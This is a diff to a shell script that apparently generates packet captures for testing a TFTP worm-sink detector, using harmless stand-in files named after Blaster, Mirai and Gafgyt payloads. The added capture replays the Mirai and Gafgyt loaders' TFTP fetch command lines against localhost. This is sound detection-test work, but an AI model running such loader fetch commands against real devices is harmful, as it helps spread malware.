@@ -33,7 +33,7 @@ in_ns ip link set lo up
 # The files served. Worm names hold a harmless stand-in, never a worm.
 srv=$work/srv
 mkdir -p "$srv/pxelinux.cfg"
-for f in msblast.exe penis32.exe dllhost.exe pxelinux.0 router-confg; do
+for f in msblast.exe penis32.exe dllhost.exe pxelinux.0 router-confg mirai.arm7 tftp1.sh tftp2.sh; do
   printf 'wormsink test stand-in for %s\n' "$f" >"$srv/$f"
 done
 head -c 6176 /dev/zero | tr '\0' 'x' >"$srv/msblast.exe" # Blaster's size: 13 blocks
@@ -75,6 +75,10 @@ capture atftp-path-msblast.pcap lo atftp --get -r /MSBLAST.EXE -l "$work/got" 12
 capture legit-pxe-router.pcap lo sh -c 'tftp -m binary 127.0.0.1 -c get pxelinux.0;
   tftp -m binary 127.0.0.1 -c get pxelinux.cfg/default; curl -s -o /dev/null tftp://127.0.0.1/router-confg'
 capture any-sll2-msblast.pcap any tftp -m binary 127.0.0.1 -c get msblast.exe
+# Today's loaders, as their published command lines run them: the Mirai
+# loader's busybox fetch, then the Gafgyt infect line's two TFTP fetches.
+capture busybox-mirai-gafgyt-loader.pcap lo sh -c 'busybox tftp -g -l dvrHelper -r mirai.arm7 127.0.0.1;
+  tftp 127.0.0.1 -c get tftp1.sh; busybox tftp -r tftp2.sh -g 127.0.0.1'
 
 gzip -9 -n -c "$out/tftp-hpa-msblast.pcap" >"$out/tftp-hpa-msblast.pcap.gz"
 chown -R "$(id -u):$(id -g)" "$out" # tcpdump wrote them as its own user
